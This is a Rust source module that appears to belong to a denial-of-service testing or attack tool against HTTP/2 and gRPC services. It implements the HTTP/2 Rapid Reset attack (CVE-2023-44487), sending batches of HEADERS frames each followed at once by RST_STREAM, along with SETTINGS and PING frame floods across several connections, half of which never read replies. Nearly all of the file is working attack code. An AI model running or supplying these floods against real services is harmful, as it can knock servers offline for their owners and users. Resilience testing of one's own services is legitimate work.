//! Frames as fast as the service takes them. Every second connection reads nothing of what comes back.

use std::sync::Arc;

use super::{
    Attack,
    calls::GET_SESSION,
    connection::{PAUSE, connect, play_and_read, swarm},
    frames::{self, END_STREAM, PING, RST_STREAM, SETTINGS},
};

const CONNECTIONS: usize = 4;

/// How many frames are written at once.
const BATCH: usize = 200;

/// Calls that are reset at once (CVE-2023-44487).
pub async fn rapid_reset(attack: &Arc<Attack>) -> anyhow::Result<()> {
    flood(attack, || {
        let mut next = 0;
        let block = frames::call(GET_SESSION, None);
        move || {
            let mut batch = Vec::new();
            for _ in 0..BATCH {
                let stream = frames::stream(next);
                batch.extend(frames::header_frames(stream, END_STREAM, &block));
                batch.extend(frames::frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                next += 1;
            }
            batch
        }
    })
    .await
}

pub async fn settings(attack: &Arc<Attack>) -> anyhow::Result<()> {
    flood(attack, || || frames::frame(SETTINGS, 0, 0, &[]).repeat(BATCH)).await
}

pub async fn pings(attack: &Arc<Attack>) -> anyhow::Result<()> {
    flood(attack, || || frames::frame(PING, 0, 0, &[7; 8]).repeat(BATCH)).await
}

/// Floods with what `batches` makes for each connection: [`BATCH`] units at a time.
async fn flood<Next: FnMut() -> Vec<u8> + Send + 'static>(
    attack: &Arc<Attack>,
    batches: impl Fn() -> Next + Clone + Send + Sync + 'static,
) -> anyhow::Result<()> {
    attack.begin().await?;
    swarm(attack, CONNECTIONS, Some(PAUSE), move |attack, number| {
        let next = batches();
        async move {
            let mut connection = connect(&attack, attack.grpc, 0, None).await?;
            connection.write.send(&frames::greeting()).await?;
            if number.is_multiple_of(2) {
                let ending = play_and_read(&attack, connection, async move |write| write.flood(next, BATCH).await);
                return Ok(ending.await);
            }
            let error = connection.write.flood(next, BATCH).await;
            Ok(format!("unread: {}", frames::closed(&error)))
        }
    })
    .await
}
